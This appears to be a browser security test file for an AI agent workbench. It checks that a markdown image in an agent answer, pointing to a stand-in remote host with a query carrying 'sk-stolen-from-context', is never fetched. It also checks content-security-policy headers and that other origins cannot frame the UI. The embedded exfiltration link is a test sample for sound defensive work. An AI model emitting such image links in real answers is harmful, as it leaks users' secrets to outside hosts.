/**
 * The agent as the adversary, through the UI: an answer that carries `![x](http://host/?k=...)`
 * must not make the browser send that URL, links to other origins open in a new tab that cannot
 * reach back, and no other origin may frame the workbench. The "remote host" is a real server on
 * another local port (another origin), which records every request it gets.
 */
import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { startWorkbench, type Workbench } from "../../backend/test-support/workbench-harness";
import { chromiumAvailable, launch, openPage, type WatchedPage } from "./browser";
import { checkAndClosePage } from "./page-checks";

describe.skipIf(!chromiumAvailable)("nothing leaves through the UI", () => {
  let browser: Browser;
  let wb: Workbench;
  let view: WatchedPage;
  let remote: Server;
  let remoteOrigin = "";
  const remoteHits: string[] = [];

  beforeAll(async () => {
    browser = await launch();
    remote = createServer((request: IncomingMessage, response) => {
      remoteHits.push(request.url ?? "");
      if (request.url === "/frame") {
        response.setHeader("content-type", "text/html");
        response.end(`<!doctype html><title>other origin</title><iframe id="victim" src="${wb.url}/"></iframe>`);
        return;
      }
      response.setHeader("content-type", "image/png");
      response.end(Buffer.alloc(0));
    });
    await new Promise<void>((resolve) => remote.listen(0, "127.0.0.1", resolve));
    remoteOrigin = `http://127.0.0.1:${(remote.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    await browser?.close();
    remote?.close();
  });
  afterEach(async () => {
    await checkAndClosePage(view);
    await wb?.close();
  });

  it("a remote image in an answer is a link, never fetched; links to other origins open in a new tab with noopener", async () => {
    wb = await startWorkbench({
      script: () => ({
        content:
          `Here is the chart: ![chart](${remoteOrigin}/pixel.png?k=sk-stolen-from-context)\n\n` +
          `Read [the source](${remoteOrigin}/article) or [your memory](/api/files?path=memory/MEMORY.md).`,
      }),
    });
    view = await openPage(browser, wb.url);
    const { page } = view;
    await page.getByTestId("composer").fill("show me the chart");
    await page.keyboard.press("Enter");
    const remoteImage = page.locator("[data-remote-image]");
    // The answer renders once the turn has streamed: on a loaded machine that is more than the default second.
    await expect.poll(() => remoteImage.count(), { timeout: 10_000 }).toBe(1);
    expect(await remoteImage.innerText()).toContain(`load image from ${new URL(remoteOrigin).host}?`);
    expect(await remoteImage.getAttribute("rel")).toBe("noopener noreferrer");
    expect(await page.locator(`img[src*="${new URL(remoteOrigin).port}"]`).count()).toBe(0);

    const external = page.getByRole("link", { name: "the source" });
    expect(await external.getAttribute("target")).toBe("_blank");
    expect(await external.getAttribute("rel")).toBe("noopener noreferrer");
    expect(await page.getByRole("link", { name: "your memory" }).getAttribute("target")).toBeNull();

    await page.waitForTimeout(500);
    expect(remoteHits, "requests the page sent to the other origin").toEqual([]);
    await view.shot("remote-image-as-link");
  });

  it("serves the UI with a policy that allows only its own origin, and refuses to be framed by another", async () => {
    wb = await startWorkbench({ script: () => ({ content: "ok" }) });
    view = await openPage(browser, wb.url);
    const response = await view.page.reload();
    const policy = response?.headers()["content-security-policy"] ?? "";
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).toContain("img-src 'self' data: blob:");
    expect(policy).toContain("connect-src 'self'");
    expect(policy).toMatch(/script-src 'self'( 'sha256-[A-Za-z0-9+/=]+')*;/);
    expect(policy).not.toMatch(/script-src[^;]*unsafe/);
    // The app ran under that policy: it hydrated and works.
    await view.page.getByTestId("composer").fill("hello");
    await view.page.keyboard.press("Enter");
    await expect.poll(() => view.page.getByText("ok", { exact: true }).count()).toBeGreaterThan(0);

    // Another origin tries to frame it: the browser shows nothing of the workbench.
    const framer = await browser.newContext();
    const other = await framer.newPage();
    await other.goto(`${remoteOrigin}/frame`);
    await other.waitForTimeout(1000);
    const frame = other.frames().find((f) => f !== other.mainFrame());
    const framed = frame ? await frame.evaluate(() => document.querySelector("[data-testid=composer]") !== null).catch(() => false) : false;
    expect(framed).toBe(false);
    expect(frame?.url() ?? "").not.toBe(`${wb.url}/`);
    await framer.close();
  });
});
